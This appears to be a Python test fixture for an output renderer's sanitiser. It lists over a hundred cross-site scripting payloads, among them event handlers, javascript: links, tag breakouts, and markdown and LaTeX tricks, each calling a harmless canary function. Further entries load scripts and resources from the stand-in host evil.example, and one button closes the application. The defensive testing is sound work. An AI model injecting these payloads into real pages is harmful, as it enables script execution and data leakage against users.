"""Texts that would run `canary()`, or ask the network for something, were they ever taken for markup."""

from __future__ import annotations

_CALLS = ("canary()", "canary&#40;&#41;", "window['canary']()", "setTimeout('canary()')")
_RUNS = (
    "<script>CALL</script>",
    "<img src=x onerror=CALL>",
    "<img src=x onerror='CALL'>",
    '<svg onload="CALL">',
    "<svg><script>CALL</script></svg>",
    "<body onload=CALL>",
    "<details open ontoggle=CALL>",
    "<video><source onerror=CALL></video>",
    "<audio src=x onerror=CALL>",
    "<input autofocus onfocus=CALL>",
    "<select autofocus onfocus=CALL>",
    "<marquee onstart=CALL>",
    "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
    "<iframe src='javascript:parent.CALL'></iframe>",
    "<object data='javascript:CALL'></object>",
    "<embed src='javascript:CALL'>",
    "<a href='javascript:CALL'>click</a>",
    "<form action='javascript:CALL'><button>click</button></form>",
    "<button onclick=CALL>click</button>",
    "<div onmouseover=CALL style='position:fixed;inset:0'>over</div>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=CALL>",
    "<math><maction actiontype='statusline' xlink:href='javascript:CALL'>click</maction></math>",
    "</pre><img src=x onerror=CALL>",
    "</td></tr></table><img src=x onerror=CALL>",
    "</span></div></details><img src=x onerror=CALL>",
    "</script><script>CALL</script>",
    '"><img src=x onerror=CALL>',
    "'><img src=x onerror=CALL>",
    "` onerror=CALL `<img src=x onerror=CALL>",
    "[click](javascript:CALL)",
    '![x](x" onerror="CALL)',
    "<http://x onmouseover=CALL>",
    "$\\href{javascript:{}}{click}$",
    "\\(\\href{javascript:{}}{click}\\)",
    "<!--><img src=x onerror=CALL>-->",
    "<![CDATA[<img src=x onerror=CALL>]]>",
)
_ASKS = (
    "<img src='https://evil.example/x.png'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    "<script src='https://evil.example/x.js'></script>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "![picture](https://evil.example/x.png)",
    "<button data-commandlinker-command='application:close' data-commandlinker-args='{}'>click</button>",
    "<form action='https://evil.example'><input name=x><button>click</button></form>",
)
PAYLOADS = [run.replace("CALL", call) for run in _RUNS for call in _CALLS] + [*_ASKS]
"""At least 150 of them."""

CONTROLS = ["<img src=x onerror=canary()>", "<details open ontoggle=canary()>"]
"""Those that run in a live output for certain, where they are shown raw."""
